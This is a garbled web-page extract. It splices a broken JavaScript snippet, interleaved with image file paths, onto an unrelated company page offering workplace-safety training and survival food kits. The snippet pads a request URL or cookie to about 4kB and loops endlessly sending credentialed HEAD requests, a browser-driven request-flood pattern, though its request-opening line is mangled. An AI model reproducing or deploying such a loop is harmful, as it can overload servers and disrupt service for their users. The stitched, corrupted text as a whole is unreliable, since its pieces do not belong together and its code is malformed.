var url = ""; var xhr = new XMLHttpRequest; // Expand URL to ~4kB using a query string // Alternatively, force a large cookie url += "?"; var x = 10000000; for (var i=0; i<=500; i++) {url += x++; } while(true) {"HEAD", url, false); xhr.withCredentials = true; xhr.send(); xhr.abort(); } ... ... Safety Resources

Human resource tools and information whenyou need them

<     >

Safety Resources

---- Line ----

Safety embraces many things. We offer you a wonderful training program to help employees defeat workplace violence. We also offer you survival packages containing food, water, and other necessary supplies. Once a disaster hits, it's too late to be wondering how people will eat and drink until help arrives. Plan today and be confident if the need should ever arise.

Survival food kits will ship within 7 to 10 working days.

Copyright 1995-2021 The ManagementAdvantage, Inc. All Rights Reserved